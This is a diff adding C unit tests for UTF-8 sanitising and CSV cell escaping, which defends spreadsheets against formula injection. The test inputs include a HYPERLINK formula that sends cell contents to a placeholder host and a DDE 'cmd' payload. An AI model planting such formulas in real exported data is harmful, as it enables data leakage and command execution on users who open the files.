@@ -148,6 +148,108 @@ static void test_escape_json_strings(void **state)
 		    "\"\\ufffd\\ufffd\\ufffd\\ufffd\\ufffd\\ufffd\\ufffd\"");
 }
 
+/* s with its stray bytes replaced, checked against the length announced and for validity. */
+static void expect_utf8(const char *s, const char *want)
+{
+	size_t len = orr_utf8_replace(NULL, 0, s);
+	char *buf = malloc(len + 1);
+
+	assert_non_null(buf);
+	assert_int_equal(orr_utf8_replace(buf, len + 1, s), len);
+	assert_string_equal(buf, want);
+	assert_true(orr_utf8_is_valid(buf));
+	assert_true(orr_utf8_is_valid(s) == (strcmp(s, want) == 0));
+	free(buf);
+}
+
+static void test_escape_utf8_replace(void **state)
+{
+	char small[6];
+
+	expect_utf8("", "");
+	expect_utf8("aten::mm \x1b[2J\n", "aten::mm \x1b[2J\n"); /* controls are valid UTF-8 */
+	expect_utf8("\xe7\x9f\xa9\xf0\x9f\x9a\x80", "\xe7\x9f\xa9\xf0\x9f\x9a\x80");
+	expect_utf8("g\xff\xfe!", "g\xef\xbf\xbd\xef\xbf\xbd!");
+	expect_utf8("\xc0\xaf", "\xef\xbf\xbd\xef\xbf\xbd");                 /* overlong */
+	expect_utf8("\xed\xa0\x80", "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd"); /* a surrogate */
+	expect_utf8("\xe4\xb8", "\xef\xbf\xbd\xef\xbf\xbd"); /* truncated at the end */
+	expect_utf8("\xe4\xb8\xe4\xb8\x80", "\xef\xbf\xbd\xef\xbf\xbd\xe4\xb8\x80");
+	expect_utf8("\xef\xbf\xbd", "\xef\xbf\xbd");
+	/* snprintf-like: cut, NUL-terminated, the whole length returned */
+	assert_int_equal(orr_utf8_replace(small, sizeof(small), "ab\xff\xff"), 8);
+	assert_string_equal(small, "ab\xef\xbf\xbd");
+	assert_int_equal(orr_utf8_replace(small, 1, "abc"), 3);
+	assert_string_equal(small, "");
+}
+
+static char *csv(const char *s)
+{
+	char *buf = NULL;
+	size_t size = 0;
+	FILE *f = open_memstream(&buf, &size);
+
+	assert_non_null(f);
+	orr_csv_write_field(f, s);
+	assert_int_equal(fclose(f), 0);
+	return buf;
+}
+
+static void expect_csv(const char *s, const char *want)
+{
+	char *c = csv(s);
+
+	assert_string_equal(c, want);
+	free(c);
+}
+
+static void test_escape_csv_cells(void **state)
+{
+	char big[1000];
+
+	/* plain text and RFC 4180 quoting, as before */
+	expect_csv("", "");
+	expect_csv("aten::mm", "aten::mm");
+	expect_csv("a,b", "\"a,b\"");
+	expect_csv("say \"hi\"", "\"say \"\"hi\"\"\"");
+	expect_csv("a\nb\rc", "\"a\nb\rc\"");
+	/* formulas written as text (OWASP) */
+	expect_csv("=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")",
+		   "\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A1,\"\"click\"\")\"");
+	expect_csv("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0");
+	expect_csv("@SUM(1,2)", "\"'@SUM(1,2)\"");
+	expect_csv("-x", "'-x");
+	expect_csv("-2+3", "'-2+3");
+	expect_csv("\t=1+1", "'\t=1+1");
+	expect_csv("\r=2+2", "\"'\r=2+2\"");
+	expect_csv("=", "'=");
+	expect_csv("-inf", "'-inf");
+	expect_csv("1e5x", "1e5x");
+	expect_csv("a=1", "a=1");
+	/* numbers stay numbers */
+	expect_csv("-1.5", "-1.5");
+	expect_csv("+3", "+3");
+	expect_csv("-.5", "-.5");
+	expect_csv("-2e-3", "-2e-3");
+	expect_csv("-1.", "-1.");
+	expect_csv("-", "'-");
+	expect_csv("-e5", "'-e5");
+	expect_csv("-1e", "'-1e");
+	/* bytes that are not UTF-8 */
+	expect_csv("g\xff\xfe", "g\xef\xbf\xbd\xef\xbf\xbd");
+	expect_csv("=\xff", "'=\xef\xbf\xbd");
+	/* longer than the writer's buffer on the stack */
+	memset(big, '"', sizeof(big) - 1);
+	big[0] = '=';
+	big[sizeof(big) - 1] = '\0';
+	{
+		char *c = csv(big);
+
+		assert_int_equal(strlen(c), 2 + 1 + 1 + 2 * (sizeof(big) - 2));
+		assert_memory_equal(c, "\"'=\"\"", 5);
+		free(c);
+	}
+}
+
 static void test_escape_diag_stays_one_line(void **state)
 {
 	struct orr_diag d;
@@ -170,6 +272,8 @@ int main(void)
 		cmocka_unit_test(test_escape_is_idempotent_and_clean),
 		cmocka_unit_test(test_escape_into_a_small_buffer),
 		cmocka_unit_test(test_escape_json_strings),
+		cmocka_unit_test(test_escape_utf8_replace),
+		cmocka_unit_test(test_escape_csv_cells),
 		cmocka_unit_test(test_escape_diag_stays_one_line),
 	};
 
